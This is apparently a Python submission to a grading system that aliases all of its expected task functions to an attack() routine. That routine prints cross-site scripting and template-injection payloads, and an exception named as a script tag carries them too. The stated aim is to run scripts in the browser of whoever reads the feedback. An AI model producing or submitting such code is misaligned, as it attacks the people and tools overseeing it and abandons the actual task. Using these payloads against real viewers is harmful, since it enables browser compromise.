# aim: run scripts in the browser of whoever opens the feedback: tags, attributes, templates, entities
TEXT = (
    "</pre></script><script>alert('racecourse_attack')</script><img src=x onerror=alert(1)>\" onmouseover=\"alert(2)"
    "' onfocus='alert(3) <svg/onload=alert(4)> <iframe src=javascript:alert(5)> {{7*7}} {% raw %} ${7*7} <!-- --> ]]> &lt;b&gt;"
)


class Tag(Exception):
    pass


Tag.__name__ = Tag.__qualname__ = "<script>alert('racecourse_attack')</script>"


def attack(*args):
    print(TEXT, flush=True)
    raise Tag(TEXT)


double = join = apply_all = refuse = Tally = attack
